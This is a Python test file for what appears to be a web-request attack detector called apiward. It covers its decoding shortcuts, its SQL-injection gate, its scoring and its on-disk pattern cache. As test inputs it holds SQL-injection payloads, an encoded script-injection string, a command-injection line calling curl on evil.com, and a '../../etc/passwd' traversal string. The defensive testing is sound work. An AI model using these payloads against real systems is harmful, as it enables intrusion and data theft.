"""The fast paths are exact shortcuts: a value left undecoded decodes to itself, and the SQL gate lets through every
text the SQL detectors could fire on (the other way round only costs time). The compiled pattern database is
cached on disk; a missing, corrupt or unwritable cache only costs a compilation."""

from __future__ import annotations

import html
import re
from pathlib import Path

import pytest
import re2
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from apiward.detect import Engine, _regex
from apiward.detect._decode import _B64_NOT_HEX, _unescape_changes, busy_indexes, decode_steps, variants
from apiward.detect._detectors import QUOTE_PATTERN, SQL_GATE_PATTERNS, TextView
from apiward.detect._regex import RegexSet

_ALPHABET = st.sampled_from([*"abcXYZ019 -_+/=%&'\"\\$`[]<>;()\t\n\x01*!.@:", "\uff1c", "¼"])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(_ALPHABET, min_size=1, max_size=40), min_size=1, max_size=8))
def test_values_left_undecoded_decode_to_themselves(texts: list[str]) -> None:
    busy = busy_indexes(texts, 65_536)
    for index, text in enumerate(texts):
        if index not in busy:
            assert [s.text for s in decode_steps(text)] == [text], (index, text)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(_ALPHABET, max_size=20), max_size=8))
def test_a_value_that_needs_decoding_is_found_wherever_it_stands(texts: list[str]) -> None:
    busy = busy_indexes(texts, 65_536)
    for index, text in enumerate(texts):
        if busy_indexes([text], 65_536):
            assert index in busy, (index, text)


@settings(max_examples=300, deadline=None)
@given(st.text(_ALPHABET, max_size=60), st.sampled_from([(3, 65_536), (1, 12), (2, 5)]))
def test_variants_are_the_texts_of_the_decoding_steps(text: str, bounds: tuple[int, int]) -> None:
    rounds, max_len = bounds
    steps = decode_steps(text, rounds=rounds, max_len=max_len)
    assert variants(text, rounds=rounds, max_len=max_len) == [s.text for s in steps]


def _has_base64_window(text: str) -> bool:
    """16 consecutive base64 characters of which one at least is not a hex digit or '-' (the reference)."""
    b64 = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/_-")
    hexish = set("0123456789abcdefABCDEF-")
    return any(
        all(c in b64 for c in text[i : i + 16]) and not all(c in hexish for c in text[i : i + 16])
        for i in range(len(text) - 15)
    )


@settings(max_examples=1000, deadline=None)
@given(st.text(st.sampled_from([*"0aF-", *"g+/_Z", *" .%"]), max_size=40))
@example("0123456789abcdef")  # hex only: not base64
@example("0123456g89abcdef")  # one non-hex character in the middle of the window
@example("0123456789abcde/")
@example("/123456789abcdef")
@example("0123456789abcdef0123456789abcdefZ")  # the non-hex character after a long hex run
@example("0123456789abcde 0123456789abcdeZ")
def test_the_base64_trigger_is_a_window_of_16_base64_characters_not_all_hex(text: str) -> None:
    assert (re2.search(f"(?:{_B64_NOT_HEX})", text) is not None) == _has_base64_window(text)


_REFERENCE = st.sampled_from(["&", "&#", "&#x", "&#X", "&amp", "&para", "&page", "&lt", "&notin", "&no", "&a", ";"])


@settings(max_examples=500, deadline=None)
@given(st.lists(st.one_of(_REFERENCE, st.text("ab9f=;# \t&xX", max_size=4)), max_size=8).map("".join))
def test_html_references_are_decoded_exactly_when_unescaping_changes_the_text(text: str) -> None:
    assert _unescape_changes(text) == (html.unescape(text) != text)


def test_ids_numbers_and_plain_words_are_not_decoded() -> None:
    texts = ["3f2a9c1e-4b5d-4e6f-8a7b-9c0d1e2f3a4b", "0123456789abcdef0123", "42", "thanks for the quick delivery"]
    assert busy_indexes(texts, 65_536) == set()


def test_encoded_and_spaced_values_are_decoded() -> None:
    texts = ["plain", "%27%20or%201=1", "name=value", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "a  b", " lead"]
    assert busy_indexes(texts, 65_536) == {1, 2, 3, 4, 5}


def test_too_long_values_are_decoded_to_be_cut() -> None:
    assert busy_indexes(["x" * 20], 10) == {0}


def test_sql_gate_skips_prose_that_only_names_sql_words() -> None:
    for prose in (
        "please select an option in the menu",
        "members of the credit union",
        "drop me a line",
        "select refund select café great Friday union union update order",
        "order colour menu email size members O'Brien refund select",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)",
        "Order #26535 or #26536",
        "for=2001:db8:cafe::32:4711;proto=https",
        "q=hello&page=2",
    ):
        assert not TextView(prose).sql_possible(), prose
        assert not _gate_hits(prose), prose


def test_sql_gate_keeps_sql_shapes() -> None:
    for text in (
        "select * from users",
        "1 union select 1,2",
        "SELECT @@version",
        "select pg_sleep(5)",
        "x union (select 1)",
    ):
        assert TextView(text).sql_possible(), text
        assert _gate_hits(text), text


_CODE_RULES = Engine(paranoia=4)._code_rules
_GATE = RegexSet(list(SQL_GATE_PATTERNS))


def _gate_hits(text: str) -> bool:
    """The engine's verdict: a gate pattern matched (and, when only the quote pattern did, a quote breaks there)."""
    hits = {pattern for _, pattern in _GATE.candidates([text])}
    return bool(hits) and (hits != {QUOTE_PATTERN} or TextView(text, gate=True, quoted=True).sql_possible())


def _fires(text: str) -> list[str]:
    view = TextView(text)
    view._possible = True  # every fingerprint, whatever the gate says
    return [rule.id for rule, shape, detect, *_ in _CODE_RULES if detect(shape, view) is not None]


# What the gate says it may miss: MySQL's /*! opening followed by another script's digits, a function name run into
# a hexadecimal number.
_BLIND_SPOTS = re.compile(r"/\*!\d*[^\x00-\x7f]|0x[0-9a-f]*[g-z]", re.IGNORECASE)
_SQL_PIECES = st.sampled_from(
    [
        *["'", '"', "`", "1", "0x1f", ".5", "1e-5", "٣", "@x", "@@v", "null", "true", "x", "abc", "x.y", "é", "—"],
        *["=", "<", ">", "!=", "-", "+", "*", "/", "%", "~", "::", "&", "&&", "||", "(", ")", ",", ";", ".", "?", "\\"],
        *["--", "#", "/*", "*/", "/*!50000", "\n", "\u00a0", "\u2003", "\x1c", "li\u212ae", "is not", "not like"],
        *["or", "and", "not", "xor", "union", "select", "from", "where", "order", "by", "limit", "as", "all", "table"],
        *["like", "in", "is", "div", "notnull", "sleep", "hex", "char", "count", "if", "drop", "exec", "waitfor"],
    ]
)
_SQLISH = st.lists(st.tuples(_SQL_PIECES, st.sampled_from(["", " ", " ", "  ", "/**/", "\t"])), max_size=10).map(
    lambda pieces: "".join(piece + gap for piece, gap in pieces)
)


@settings(max_examples=2000, deadline=None)
@given(_SQLISH)
@example("union/*!50000select*/1")
@example("0x1funion select 1")
@example("1e-5 not select ||")
@example("x . y or 1=1")
@example("a,٣=٣")
@example("x' as y--")
@example("in (select 1)")
@example("'hex(.")
@example("x ../*!50000hex(")
@example(")not like (")
@example("1;select")
@example("- 1 | (select 1")
def test_the_sql_gate_lets_through_every_text_a_sql_code_rule_fires_on(text: str) -> None:
    assume(not _BLIND_SPOTS.search(text))
    if _fires(text):
        assert _gate_hits(text), text
        assert TextView(text).sql_possible(), text


def test_sql_keywords_in_prose_still_do_not_fire_and_sql_still_does() -> None:
    engine = Engine(paranoia=1)
    assert engine.inspect_value("Great union of members; select the red one.").scores.get("sqli", 0) == 0
    assert engine.inspect_value("1 UNION SELECT username, password FROM users--").scores.get("sqli", 0) >= 5


def test_a_quoted_command_after_a_separator_is_unquoted_before_matching() -> None:
    engine = Engine(paranoia=1)
    assert engine.inspect_value(";'curl' http://evil.com").scores.get("rce", 0) >= 5
    assert engine.inspect_value(';"rmt" --version').scores.get("rce", 0) >= 5
    assert engine.inspect_value('He said "yes" and left; see you').scores == {}


def test_a_lone_surrogate_takes_the_slow_path_instead_of_failing() -> None:
    assert busy_indexes(["ok", "\ud800abc"], 65_536) == {0, 1}
    assert Engine(paranoia=1).inspect_value("\ud800abc").matches == ()


def _fresh(monkeypatch: pytest.MonkeyPatch, folder: Path | str) -> None:
    monkeypatch.setenv("APIWARD_CACHE_DIR", str(folder))
    monkeypatch.setattr(_regex, "_CACHE", {})


def test_the_compiled_database_is_cached_on_disk_and_reused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _fresh(monkeypatch, tmp_path)
    first = RegexSet(["union\\s+select", "<script"])
    (cached,) = tmp_path.glob("hyperscan-*.db")
    _fresh(monkeypatch, tmp_path)
    monkeypatch.setattr(_regex.hyperscan, "Database", None)  # compiling now would fail: the file must be used
    second = RegexSet(["union\\s+select", "<script"])
    texts = ["1 UNION  SELECT 2", "<SCRIPT>", "plain"]
    assert second.scan(texts) == first.scan(texts) == {(0, 0): "UNION  SELECT", (1, 1): "<SCRIPT"}
    assert cached.exists()


def test_a_corrupt_cache_file_is_compiled_again_and_rewritten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _fresh(monkeypatch, tmp_path)
    RegexSet(["drop\\s+table"])
    (cached,) = tmp_path.glob("hyperscan-*.db")
    good = cached.read_bytes()
    for damage in (good[:40], good[:-10] + b"0123456789", b"not a database"):
        cached.write_bytes(damage)
        _fresh(monkeypatch, tmp_path)
        assert RegexSet(["drop\\s+table"]).scan(["DROP TABLE x"]) == {(0, 0): "DROP TABLE"}
        assert cached.read_bytes() == good
    assert [p.name for p in tmp_path.iterdir()] == [cached.name]  # no temporary file left behind


def test_an_unusable_cache_directory_only_costs_a_compilation(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("a file where the cache directory should be")
    for folder in (blocker / "apiward", ""):  # not a directory; cache turned off
        _fresh(monkeypatch, folder)
        assert RegexSet(["etc/passwd"]).scan(["../../etc/passwd"]) == {(0, 0): "etc/passwd"}
    assert blocker.read_text().startswith("a file")


def test_the_cache_key_changes_with_the_patterns(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _fresh(monkeypatch, tmp_path)
    RegexSet(["alpha"])
    _fresh(monkeypatch, tmp_path)
    RegexSet(["beta"])
    assert len(list(tmp_path.glob("hyperscan-*.db"))) == 2


def test_only_the_most_recent_databases_are_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for index in range(_regex._KEEP + 3):
        _fresh(monkeypatch, tmp_path)
        RegexSet([f"word{index}"])
    assert len(list(tmp_path.glob("hyperscan-*.db"))) == _regex._KEEP
